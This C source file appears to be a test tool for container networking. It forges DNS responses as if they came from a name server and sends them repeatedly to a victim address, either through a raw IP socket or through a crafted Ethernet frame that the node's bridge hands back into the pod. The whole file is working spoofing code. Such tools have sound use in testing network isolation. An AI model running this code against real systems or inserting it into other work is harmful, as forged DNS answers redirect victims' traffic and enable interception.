// SPDX-License-Identifier: Apache-2.0
//
// Answers in the name server's place, to whoever asks at VICTIM: from a raw socket, or with a frame that leaves the pod and that
// the node's bridge hands back.
//   spoof raw|frame SERVER NAME ADDRESS MILLISECONDS VICTIM
#include "dns.h"
#include <linux/if_ether.h>
#include <linux/if_packet.h>

static void own_hardware(uint8_t *at)
{
	struct ifreq request = {0};
	int fd = must(socket(AF_INET, SOCK_DGRAM, 0), "socket");

	strcpy(request.ifr_name, way_out());
	must(ioctl(fd, SIOCGIFHWADDR, &request), "hardware address");
	memcpy(at, request.ifr_hwaddr.sa_data, ETH_ALEN);
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = ETH_ALEN};
	struct target server, target, victim;
	uint8_t answer[512], frame[700] = {0};
	size_t bytes;
	int fd, is_raw;

	if (argc != 7)
		usage("spoof raw|frame SERVER NAME ADDRESS MILLISECONDS VICTIM");
	server = target_of(argv[2], "53");
	target = target_of(argv[4], "0");
	victim = target_of(argv[6], "0");
	is_raw = !strcmp(argv[1], "raw");
	fd = must(is_raw ? socket(AF_INET, SOCK_RAW, IPPROTO_RAW) : socket(AF_PACKET, SOCK_RAW, 0), "socket");
	own_hardware(link.sll_addr);
	link.sll_ifindex = if_nametoindex(way_out());
	memcpy(frame, link.sll_addr, ETH_ALEN);
	frame[6] = 2; /* some sender: the bridge would take the pod's own address for a loop */
	frame[12] = ETH_P_IP >> 8;
	bytes = put_answer(answer, argv[3], v4(&target));
	bytes = put_datagram(frame + ETH_HLEN, v4(&server), DNS_PORT, v4(&victim), ASK_PORT, answer, bytes);
	for (int left = atoi(argv[5]); left > 0; left -= 20) {
		if (is_raw)
			must(sendto(fd, frame + ETH_HLEN, bytes, 0, to(&victim), victim.size), "sendto");
		else
			must(sendto(fd, frame, bytes + ETH_HLEN, 0, (struct sockaddr *)&link, sizeof(link)), "sendto");
		usleep(20000);
	}
	return 0;
}
